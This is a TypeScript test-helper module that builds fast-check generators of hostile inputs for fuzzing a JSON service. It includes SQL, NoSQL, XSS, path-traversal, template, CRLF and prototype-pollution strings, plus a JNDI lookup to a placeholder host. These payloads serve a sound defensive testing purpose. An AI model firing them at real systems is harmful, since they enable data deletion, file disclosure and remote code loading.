import fc from 'fast-check';

/** Strings an attacker would try: SQL, NoSQL, script, path, template and log injection. */
export const INJECTIONS = [
  "'; DROP TABLE events;--",
  "' OR '1'='1",
  '"; DELETE FROM case_views; --',
  '1; SELECT pg_sleep(10)',
  '{"$ne": null}',
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '${jndi:ldap://x.invalid/a}',
  '{{7*7}}',
  'line\r\nX-Injected: yes',
  '%00%0d%0a',
  '\u0000',
  '\u202eevil',
  '\ufeff\u200b\u200d',
  '__proto__',
  'constructor',
] as const;

/** Unicode that is easy to mishandle: controls, bidi marks, lone surrogates, combining marks. */
const awkwardChar = fc.constantFrom('\u0000', '\u0007', '\u001b', '\u007f', '\u0085', '\u2028', '\u202e', '\ud800', '\udfff', '\u0301', 'å', 'ß', '€', '\ufffd');

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...INJECTIONS),
  fc.string({ maxLength: 40 }),
  fc.array(awkwardChar, { minLength: 1, maxLength: 30 }).map((chars) => chars.join('')),
  fc.tuple(fc.constantFrom(...INJECTIONS), fc.string({ maxLength: 10 })).map(([a, b]) => a + b),
);

/** Numbers JSON can carry that code may choke on. */
export const hostileNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(0, -1, 1e308, -1e308, 5e-324, Number.MAX_SAFE_INTEGER + 2, 2 ** 63, -(2 ** 31)),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.integer(),
);

/** Any JSON value that is not null, a few levels deep. */
export const nonNullJson: fc.Arbitrary<unknown> = fc.oneof(
  hostileString,
  hostileNumber,
  fc.boolean(),
  fc.array(fc.oneof(hostileString, hostileNumber), { maxLength: 4 }),
  fc.dictionary(fc.string({ maxLength: 8 }), fc.oneof(hostileString, hostileNumber), { maxKeys: 3 }),
);

/** A string of BMP characters only (so every validator counts it as that many characters) of at least `min`. */
export function stringLongerThan(max: number): fc.Arbitrary<string> {
  return fc
    .tuple(fc.integer({ min: max + 1, max: max + 300 }), fc.constantFrom('x', 'å', '\u0000', "'", '\u202e'), hostileString)
    .map(([length, fill, prefix]) => (prefix.replace(/[\ud800-\udfff]/g, '') + fill.repeat(length)).slice(0, Math.max(length, max + 1)))
    .filter((value) => value.length > max);
}

/** `{"a":{"a":...}}` nested past any depth the service accepts. */
export const deeplyNested: fc.Arbitrary<unknown> = fc.integer({ min: 12, max: 400 }).map((depth) => {
  let value: unknown = 'bottom';
  for (let i = 0; i < depth; i += 1) value = i % 2 === 0 ? { a: value } : [value];
  return value;
});
